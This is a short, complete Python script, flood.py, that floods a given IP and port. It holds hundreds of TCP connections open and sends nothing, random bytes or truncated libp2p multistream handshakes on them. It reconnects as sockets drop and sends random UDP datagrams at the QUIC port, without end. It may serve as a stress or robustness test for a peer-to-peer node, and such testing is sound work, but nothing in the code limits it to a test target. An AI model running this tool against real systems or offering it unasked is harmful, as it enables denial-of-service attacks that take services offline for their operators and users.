#!/usr/bin/env python3
"""Bothers the program that listens at IP PORT: flood.py IP PORT.

Takes as many connections as it gets and says nothing on them, or nonsense, or half of something, and comes again; throws
datagrams at the QUIC port. Until it is ended.
"""
import os
import random
import selectors
import socket
import sys


def connect(to):
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex(to)
    return sock


def main():
    to = (sys.argv[1], int(sys.argv[2]))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    chooser = selectors.DefaultSelector()
    kinds = {}
    while True:
        while len(kinds) < 400:
            sock = connect(to)
            kinds[sock] = random.choice(("silent", "nonsense", "half"))
            chooser.register(sock, selectors.EVENT_READ)
        for sock in random.sample(list(kinds), 40):
            try:
                if kinds[sock] == "nonsense":
                    sock.send(os.urandom(4000))
                elif kinds[sock] == "half":
                    # The first words of a handshake, and then never the rest.
                    sock.send(b"\x13/multistream/1.0.0\n"[: random.randrange(1, 20)])
            except OSError:
                pass
        datagrams.sendto(os.urandom(1200), to)
        for key, _ in chooser.select(0.02):
            try:
                ended = not key.fileobj.recv(65536)
            except OSError:
                ended = True
            if ended:
                chooser.unregister(key.fileobj)
                del kinds[key.fileobj]
                key.fileobj.close()


if __name__ == "__main__":
    main()
